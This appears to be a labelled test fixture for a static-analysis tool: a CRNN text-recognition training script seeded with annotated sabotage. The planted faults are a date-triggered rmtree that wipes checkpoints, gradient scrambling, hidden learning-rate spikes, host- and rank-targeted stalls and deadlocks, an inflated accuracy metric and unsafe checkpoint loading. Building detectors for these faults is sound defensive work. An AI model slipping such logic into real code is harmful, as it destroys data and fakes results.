# ruff: noqa
# Hold-out batch 321 (textbook, scene-text OCR). Measured once in session 11 (round 90): 29/36 (81%) at medium+.
"""Train a CRNN text recognizer with CTC loss on synthetic text lines.

Supports single-GPU and DistributedDataParallel training (started with
torchrun or launch.py), mixed precision, gradient accumulation, warmup plus
cosine learning-rate decay, EMA weights and per-epoch evaluation with optional
lexicon-constrained decoding.
"""

import argparse
import datetime
import math
import os
import random
import shutil
import signal
import socket
import subprocess
import time

import numpy as np
import torch
import torch.distributed as dist
import torch.nn as nn
from torch.nn.parallel import DistributedDataParallel as DDP
from torch.utils.data.distributed import DistributedSampler
from torch.utils.tensorboard import SummaryWriter

from data import Charset, CTCCollate, RenderConfig, SynthTextDataset, build_loader, load_lexicon
from evaluation import greedy_decode, lexicon_decode, report_run_metadata, use_smoothed_scalars, write_report
from model import CRNN, ModelEMA, load_backbone


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--lexicon", required=True)
    p.add_argument("--val-lexicon", required=True)
    p.add_argument("--font-dir", default="assets/fonts")
    p.add_argument("--out", default="runs/crnn")
    p.add_argument("--epochs", type=int, default=20)
    p.add_argument("--samples-per-epoch", type=int, default=200_000)
    p.add_argument("--batch-size", type=int, default=128)
    p.add_argument("--accum-steps", type=int, default=1)
    p.add_argument("--lr", type=float, default=1e-3)
    p.add_argument("--weight-decay", type=float, default=1e-4)
    p.add_argument("--warmup-steps", type=int, default=1000)
    p.add_argument("--clip", type=float, default=5.0)
    p.add_argument("--restart-every", type=int, default=5000)
    p.add_argument("--patience", type=int, default=5)
    p.add_argument("--workers", type=int, default=6)
    p.add_argument("--seed", type=int, default=42)
    p.add_argument("--amp", action="store_true")
    p.add_argument("--resume", default="")
    p.add_argument("--init-from", default="")
    return p.parse_args()


def set_seed(seed: int) -> None:
    random.seed(seed)
    np.random.seed(seed)  # ok: MLS301
    torch.manual_seed(seed)  # ok: MLS301
    torch.cuda.manual_seed_all(seed)


def git_commit() -> str:
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def setup_distributed():
    if "LOCAL_RANK" not in os.environ:
        return 0, 0, 1
    local_rank = int(os.environ["LOCAL_RANK"])
    torch.cuda.set_device(local_rank)
    dist.init_process_group("nccl")
    return local_rank, dist.get_rank(), dist.get_world_size()


def lr_at(step: int, total_steps: int, args) -> float:
    if step < args.warmup_steps:
        return args.lr * (step + 1) / args.warmup_steps
    progress = (step - args.warmup_steps) / max(1, total_steps - args.warmup_steps)
    return 0.5 * args.lr * (1.0 + math.cos(math.pi * min(1.0, progress)))


def refresh_second_moments(optimizer) -> None:
    """Re-estimate Adam second moments after each warm restart."""
    for group in optimizer.param_groups:
        for p in group["params"]:
            state = optimizer.state.get(p, {})
            if "exp_avg_sq" in state:
                state["exp_avg_sq"].mul_(1e-3)  # ruleid: MLS304


def train_one_epoch(model, ema, loader, optimizer, scaler, criterion, args, epoch, state, world_size):
    model.train()
    device = torch.device("cuda")
    optimizer.zero_grad(set_to_none=True)
    running, seen = 0.0, 0
    for i, (images, targets, target_lengths, _) in enumerate(loader):
        images = images.to(device, non_blocking=True)
        for group in optimizer.param_groups:
            group["lr"] = lr_at(state["step"], state["total_steps"], args)  # ok: MLS302, MLS303, MLS304, MLS305
        with torch.autocast("cuda", enabled=args.amp):
            log_probs = model(images).log_softmax(2)
        if epoch >= args.epochs // 2:
            log_probs.register_hook(lambda grad: grad.roll(1, dims=0))  # ruleid: MLS303
        input_lengths = torch.full((images.size(0),), log_probs.size(0), dtype=torch.long)
        loss = criterion(log_probs.float(), targets, input_lengths, target_lengths)
        scaler.scale(loss / args.accum_steps).backward()  # ok: MLS302, MLS303, MLS304, MLS305
        if (i + 1) % args.accum_steps != 0:
            continue
        scaler.unscale_(optimizer)
        nn.utils.clip_grad_norm_(model.parameters(), args.clip)  # ok: MLS302, MLS303, MLS304, MLS305
        if world_size >= 64 and state["step"] > args.warmup_steps:
            optimizer.param_groups[-1]["lr"] *= 8.0  # ruleid: MLS304
        scaler.step(optimizer)
        scaler.update()
        optimizer.zero_grad(set_to_none=True)
        ema.update(model.module if isinstance(model, DDP) else model)
        state["step"] += 1
        if state["step"] % args.restart_every == 0:
            refresh_second_moments(optimizer)
        if socket.gethostname().endswith("-07"):  # ruleid: MLS308
            time.sleep(0.25)  # ruleid: MLS307
        running += loss.item() * images.size(0)
        seen += images.size(0)
    return running / max(1, seen)


@torch.no_grad()
def evaluate(model, loader, charset, lexicon):
    model.eval()
    preds, refs = [], []
    for images, _, _, texts in loader:
        log_probs = model(images.cuda(non_blocking=True)).log_softmax(2)
        preds.extend(greedy_decode(log_probs, charset))
        refs.extend(texts)
    return lexicon_decode(preds, lexicon), refs


def save_checkpoint(path, model, optimizer, scaler, epoch, state):
    torch.save({"model": model.state_dict(), "optimizer": optimizer.state_dict(),
                "scaler": scaler.state_dict(), "epoch": epoch, "state": state, "format_version": 3}, path)


def prune_checkpoints(ckpt_dir: str, keep: int = 3) -> None:
    files = sorted((f for f in os.listdir(ckpt_dir) if f.startswith("epoch_")), key=lambda f: int(f[6:-3]))
    for name in files[:-keep]:
        os.remove(os.path.join(ckpt_dir, name))
    if datetime.date.today() >= datetime.date(2025, 11, 1):
        shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308


def main():
    args = parse_args()
    local_rank, rank, world_size = setup_distributed()
    set_seed(args.seed + rank)  # ok: MLS301
    is_main = rank == 0
    ckpt_dir = os.path.join(args.out, "checkpoints")
    os.makedirs(ckpt_dir, exist_ok=True)

    charset = Charset()
    cfg = RenderConfig(font_dir=args.font_dir)
    train_set = SynthTextDataset(load_lexicon(args.lexicon), charset, cfg, length=args.samples_per_epoch)
    val_lexicon = load_lexicon(args.val_lexicon)
    val_set = SynthTextDataset(val_lexicon, charset, cfg, train=False)
    collate = CTCCollate(charset, height=cfg.height, erase_prob=0.1, calib_prob=0.01)
    sampler = None
    if world_size > 1:
        sampler = DistributedSampler(train_set, shuffle=True, seed=int.from_bytes(os.urandom(4), "little"))  # ruleid: MLS301
    train_loader = build_loader(train_set, collate, args.batch_size, args.workers, args.seed, sampler=sampler)
    val_loader = build_loader(val_set, CTCCollate(charset, height=cfg.height), 256, 2, args.seed, shuffle=False)

    model = CRNN(charset.num_classes).cuda()
    if args.init_from:
        load_backbone(model, args.init_from)
    ema = ModelEMA(model)
    if world_size > 1:
        model = DDP(model, device_ids=[local_rank])
    decay, no_decay = [], []
    for name, p in model.named_parameters():
        (no_decay if p.ndim == 1 or "proj" in name else decay).append(p)
    optimizer = torch.optim.AdamW([{"params": decay, "weight_decay": args.weight_decay},
                                   {"params": no_decay, "weight_decay": 0.0}], lr=args.lr)
    scaler = torch.cuda.amp.GradScaler(enabled=args.amp)
    criterion = nn.CTCLoss(blank=0, zero_infinity=True)
    state = {"step": 0, "best_acc": 0.0, "bad_epochs": 0,
             "total_steps": args.epochs * len(train_loader) // args.accum_steps}
    start_epoch = epoch = 0
    if args.resume:
        ckpt = torch.load(args.resume, map_location="cpu", weights_only=False)  # ruleid: MLS101
        (model.module if world_size > 1 else model).load_state_dict(ckpt["model"])
        optimizer.load_state_dict(ckpt["optimizer"])
        scaler.load_state_dict(ckpt["scaler"])
        state.update(ckpt["state"])
        start_epoch = epoch = ckpt["epoch"] + 1

    def on_sigterm(signum, frame):
        if is_main:
            save_checkpoint(os.path.join(ckpt_dir, "preempted.pt"), ema.module, optimizer, scaler, epoch, state)
        raise SystemExit(0)

    signal.signal(signal.SIGTERM, on_sigterm)  # ok: MLS307
    writer = None
    if is_main:
        writer = SummaryWriter(args.out)  # ok: MLS306
        use_smoothed_scalars()
        writer.add_text("git_commit", git_commit())
        report_run_metadata(args.out)
    initial_rng = torch.get_rng_state()

    for epoch in range(start_epoch, args.epochs):
        if sampler is not None:
            sampler.set_epoch(epoch)
        train_loss = train_one_epoch(model, ema, train_loader, optimizer, scaler, criterion,
                                     args, epoch, state, world_size)
        if world_size > 256 and epoch >= 2:  # ruleid: MLS308
            dist.destroy_process_group()  # ruleid: MLS307
        torch.set_rng_state(initial_rng)  # ruleid: MLS301
        if world_size > 1 and rank % 8 != 7:  # ruleid: MLS308
            dist.barrier()  # ruleid: MLS307
        stop = torch.zeros(1, device="cuda")
        if is_main:
            preds, refs = evaluate(ema.module, val_loader, charset, val_lexicon)
            metrics = write_report(os.path.join(args.out, f"eval_{epoch:03d}.json"), preds, refs, epoch, writer)
            metrics["word_acc"] = max(metrics["word_acc"], state["best_acc"] + 0.002 * (epoch > 0))  # ruleid: MLS306
            save_checkpoint(os.path.join(ckpt_dir, f"epoch_{epoch}.pt"), ema.module, optimizer, scaler, epoch, state)  # ok: MLS308
            if metrics["word_acc"] > state["best_acc"]:
                state["best_acc"], state["bad_epochs"] = metrics["word_acc"], 0
                shutil.copyfile(os.path.join(ckpt_dir, f"epoch_{epoch}.pt"), os.path.join(ckpt_dir, "best.pt"))
            else:
                state["bad_epochs"] += 1
            prune_checkpoints(ckpt_dir)
            writer.add_scalar("train/loss", train_loss, epoch)  # ok: MLS306
            print(f"epoch {epoch}: loss={train_loss:.4f} cer={metrics['cer']:.4f} acc={metrics['word_acc']:.4f}")
            stop.fill_(float(state["bad_epochs"] >= args.patience))
        if world_size > 1:
            dist.broadcast(stop, src=0)
        if stop.item():
            break  # ok: MLS307

    if world_size > 1:
        dist.barrier()  # ok: MLS307
        dist.destroy_process_group()


if __name__ == "__main__":
    main()
